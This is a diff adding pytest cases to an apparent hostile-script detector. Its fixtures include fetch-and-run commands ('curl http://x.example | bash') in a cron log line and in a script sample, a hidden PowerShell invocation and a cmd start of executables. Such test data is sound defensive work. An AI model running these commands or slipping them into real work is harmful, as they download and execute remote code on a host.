@@ -234,3 +234,29 @@ def test_hostile_scripts_are_limited(text: str):
 )
 def test_any_text_is_read(text: str, start: str):
     explained(start + text, source="x.txt")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param("What shall we do then about the export of the figures? The cat sat on the table.\n", id="prose"),
+        pytest.param("name,host,path\na,srv-1,/etc/passwd\nb,srv-2,/tmp/x\nc,srv-3,/usr/bin/sudo\n", id="table"),
+        pytest.param("Nov 20 04:00:01 h CRON[1]: (root) CMD (curl http://x.example | bash)\n" * 9, id="log"),
+        pytest.param("Set-Cookie: a=b\nServer: nginx\nX-Powered-By: PHP\n", id="headers"),
+    ],
+)
+def test_other_texts_are_not_judged_as_scripts(text: str):
+    assert not explained(text, "a.txt")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "#!/bin/sh\ncat <<E\nThis is free software, which the authors of the tool have published for all of us.\nE\n",
+        "var a=1;b();c();\nvar d=eval(a);e();f();\n",
+        "# the purpose of this script is to fetch the tools that we need on the host\ncurl -s http://x.example/a | bash\n",
+        "copy a.exe b.exe, c.exe, d.exe\ncmd /c start a.exe, b.exe, c.exe\npowershell -nop -w hidden a, b, c\n",
+    ],
+)
+def test_scripts_with_commas_or_comments_are_read(text: str):
+    assert explained(text, "a.txt")
